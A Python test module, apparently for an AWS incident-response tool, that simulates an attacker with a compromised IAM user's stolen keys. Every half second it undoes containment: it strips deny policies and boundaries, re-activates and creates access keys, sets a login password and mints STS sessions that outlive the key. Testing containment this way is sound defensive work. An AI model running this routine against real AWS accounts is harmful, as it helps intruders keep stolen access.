# SPDX-License-Identifier: Apache-2.0
"""An attacker who fights back: every half second, with all that he holds, he undoes whatever he can."""

import threading

import botocore.exceptions

from .thief import Thief
from .world import ACCOUNT

PAUSE = 0.5
KEYS_PER_USER = 2
NEWEST = 6
DENY_ALL = "arn:aws:iam::aws:policy/AWSDenyAll"
PASSWORD = "correct horse battery staple 3!"


class Fighter(threading.Thread):
    """He has one user's identity and no other: the keys, sessions of the user, and sessions of a role."""

    def __init__(self, world, role):
        super().__init__(daemon=True)
        self.world, self.name_, self.role = world, world.victim.name, role
        self.own = set(world.server.state()["users"][self.name_]["inline"])
        self.holds, self.rounds, self.over, self.failure = [], 0, threading.Event(), None
        for key in world.victim.keys:
            self.holds.append(Thief(world.server, key))
        self._mint(self.holds[0])
        self.holds.append(self.holds[0].federate("guest"))

    def run(self):
        """Until he is told to stop; what he did not expect is for the test to see."""
        try:
            while not self.over.wait(PAUSE):
                any(self._undo(thief) for thief in self._best())
                self.rounds += 1
        except Exception as error:  # pylint: disable=broad-except
            self.failure = error

    def stop(self):
        """The end of it."""
        self.over.set()
        self.join(60)
        assert not self.is_alive() and self.failure is None, self.failure

    def keys(self):
        """The ids of all credentials that he has or had."""
        return {thief.credentials["AccessKeyId"] for thief in self.holds}

    def _best(self):
        """What he tries until one works: the newest first, the stolen keys always."""
        return self.holds[: -NEWEST - 1 : -1] + self.holds[:2]

    def _undo(self, thief):
        """Everything, as one who knows what responders do; False where the first answer is no."""
        iam, user = thief.client("iam"), {"UserName": self.name_}
        listed = _try(iam.list_user_policies, **user)
        if listed is None:
            return False
        for name in set(listed["PolicyNames"]) - self.own:
            _try(iam.delete_user_policy, **user, PolicyName=name)
        _try(iam.detach_user_policy, **user, PolicyArn=DENY_ALL)
        _try(iam.delete_user_permissions_boundary, **user)
        self._keys(iam, user)
        _try(iam.create_login_profile, **user, Password=PASSWORD)
        for name in ("CordonDenyAll", "AWSRevokeOlderSessions"):
            _try(iam.delete_role_policy, RoleName=self.role.rpartition("/")[2], PolicyName=name)
        self._mint(thief)
        return True

    def _keys(self, iam, user):
        """Switch on what was switched off, and make another where there is room."""
        listed = (_try(iam.list_access_keys, **user) or {"AccessKeyMetadata": []})["AccessKeyMetadata"]
        for key in listed:
            if key["Status"] != "Active":
                _try(iam.update_access_key, **user, AccessKeyId=key["AccessKeyId"], Status="Active")
        if len(listed) >= KEYS_PER_USER:
            _try(iam.delete_access_key, **user, AccessKeyId=listed[-1]["AccessKeyId"])
        made = _try(iam.create_access_key, **user)
        if made:
            self.holds.append(Thief(self.world.server, made["AccessKey"]))

    def _mint(self, thief):
        """Sessions that outlive the key, of the user and of the role."""
        sts, mfa = thief.client("sts"), f"arn:aws:iam::{ACCOUNT}:mfa/{self.name_}"
        for made in (
            _try(sts.get_session_token, SerialNumber=mfa, TokenCode="123456"),
            _try(sts.assume_role, RoleArn=self.role, RoleSessionName="fight"),
        ):
            if made:
                self.holds.append(Thief(self.world.server, made["Credentials"]))


def _try(call, **parameters):
    """The answer, or None where AWS says no."""
    try:
        return call(**parameters)
    except botocore.exceptions.ClientError as error:
        assert error.response["ResponseMetadata"]["HTTPStatusCode"] < 500, error
        return None
